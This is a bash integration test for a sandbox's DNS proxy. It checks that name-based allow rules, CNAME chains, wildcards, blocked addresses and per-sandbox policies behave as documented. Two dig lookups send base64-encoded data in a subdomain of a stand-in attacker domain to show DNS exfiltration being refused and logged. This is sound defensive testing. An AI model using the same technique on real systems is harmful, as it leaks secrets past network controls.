#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
# The DNS proxy end to end (docs/dns-proxy.md), with dnsmasq as the upstream
# (its query log shows what left the host) and dig in the sandbox asking a
# server address of its choice. The host side lives in a namespace of its
# own (the jail), with the proxy, dnsmasq and the services; nothing leaves it.
set -u
# shellcheck source=tests/integration/lib.sh
. "$(dirname "$0")/lib.sh"
# shellcheck source=tests/integration/dns_lib.sh
. "$(dirname "$0")/dns_lib.sh"
# shellcheck disable=SC2119 # vr_init takes tool names, not our arguments
vr_init dig dnsmasq

vr_jail_sandbox
jail=$VR_JAIL sbx=$VR_SBX
for a in 203.0.113.10 203.0.113.20 203.0.113.30 203.0.113.99 198.51.100.66; do
	ip -n "$jail" addr add $a/32 dev vrj || vr_fatal "address $a in the jail"
done
ip -n "$jail" -6 addr add 2001:db8::10/128 dev vrj nodad || vr_fatal "2001:db8::10 in the jail"
vj() { vr -n "$jail" "$@"; }

# the upstream: a small zone, every query logged
vr_dns_upstream "$jail" 10.233.1.1 \
	--host-record=api.example.test,203.0.113.10,2001:db8::10 \
	--address=/cdn.example.test/203.0.113.20 \
	--cname=cname.example.test,edge.example.test --host-record=edge.example.test,203.0.113.30 \
	--host-record=bad.example.test,203.0.113.99 \
	--address=/attacker.example/198.51.100.66
vr_dns_services "$jail"

policy=$(vr_policy dns '{"default": "deny", "dns_proxy": true,
	"allow": ["api.example.test:443/tcp", "*.cdn.example.test:443/tcp",
		  "cname.example.test:443/tcp", "bad.example.test:443/tcp"],
	"block": ["203.0.113.99"]}')
expect "attach with name rules and dns_proxy" vj attach vrj --policy "$policy"
vj --resolver 10.233.1.1:5353 dns >"$VR_TMP/proxy.log" 2>&1 &
vr_pids+=($!)
sleep 0.5

expect_connect "before any lookup" blocked 203.0.113.10 443
expect_lookup "an allowed name, asking any server" "203.0.113.10" 192.0.2.53 api.example.test A
expect_connect "its address, allowed port" reach 203.0.113.10 443
expect_connect "its address, another port" blocked 203.0.113.10 8080
expect_lookup "its IPv6 address" "2001:db8::10" 198.51.100.7 api.example.test AAAA
expect_connect "its IPv6 address" reach 2001:db8::10 443
expect_lookup "over IPv6 to the proxy" "203.0.113.10" 2001:db8::53 api.example.test A
expect_lookup "over TCP" "203.0.113.10" 192.0.2.53 api.example.test A +tcp
expect_lookup "over TCP and IPv6" "2001:db8::10" 2001:db8::53 api.example.test AAAA +tcp
expect_lookup "refused over TCP" "NXDOMAIN" 192.0.2.53 x.attacker.example A +tcp
expect_lookup "a wildcard's name" "203.0.113.20" 192.0.2.53 a.b.cdn.example.test A
expect_connect "a wildcard's address" reach 203.0.113.20 443
expect_lookup "not the wildcard's own suffix" "NXDOMAIN" 192.0.2.53 cdn.example.test A
expect_lookup "a CNAME chain" "203.0.113.30" 192.0.2.53 cname.example.test A
expect_connect "the chain's end" reach 203.0.113.30 443
expect_lookup "the chain's end by its own name" "NXDOMAIN" 192.0.2.53 edge.example.test A
expect_lookup "an allowed name with a blocked address" "203.0.113.99" 192.0.2.53 bad.example.test A
expect_connect "the blocked address stays blocked" blocked 203.0.113.99 443
before=$(upstream_saw attacker.example)
expect_lookup "exfiltration in a name" "NXDOMAIN" 192.0.2.53 c2VjcmV0.attacker.example TXT
expect_lookup "exfiltration, another server" "NXDOMAIN" 203.0.113.10 c2VjcmV0.attacker.example A
after=$(upstream_saw attacker.example)
if [ "$before" = "$after" ]; then
	ok "the refused names never reached the upstream"
else
	not_ok "the upstream saw attacker.example $((after - before)) times"
fi
expect_connect "the exfiltration domain's address" blocked 198.51.100.66 443
if grep -q "^refused c2VjcmV0.attacker.example" "$VR_TMP/proxy.log"; then
	ok "the proxy logged the refused name"
else
	not_ok "the proxy's log: $(tail -3 "$VR_TMP/proxy.log")"
fi

# A second sandbox in the same jail, whose policy allows another name: the
# first one's lookups open nothing for it, and its own policy decides its names.
sbx2=vrsbx2$VR_ID
vr_jail_add_sandbox "$jail" "$sbx2" vrj2 vrk2 2
expect "attach the second sandbox" vj attach vrj2 --policy "$(vr_policy dns2 '{"default": "deny",
	"dns_proxy": true, "allow": ["edge.example.test:443/tcp"]}')"
expect_connect "the first sandbox still reaches its name's address" reach 203.0.113.10 443
in=$sbx2 expect_connect "the second sandbox: the first one's opened address" blocked 203.0.113.10 443
got=$(ip netns exec "$sbx2" dig +time=2 +tries=1 +noall +comments @192.0.2.53 api.example.test A |
	sed -n 's/.*status: \([A-Z]*\).*/\1/p')
if [ "$got" = NXDOMAIN ]; then
	ok "the second sandbox: the first one's name is NXDOMAIN under its own policy"
else
	not_ok "the second sandbox asking api.example.test: \"$got\", want NXDOMAIN"
fi
# ...while its own name works for it: the "blocked" above is the filter's
got=$(ip netns exec "$sbx2" dig +time=2 +tries=1 +short @192.0.2.53 edge.example.test A)
[ "$got" = 203.0.113.30 ] || not_ok "the second sandbox asking edge.example.test: \"$got\""
in=$sbx2 expect_connect "the second sandbox: its own name's address" reach 203.0.113.30 443
expect "detach the second sandbox" vj detach vrj2
expect "detach" vj detach vrj
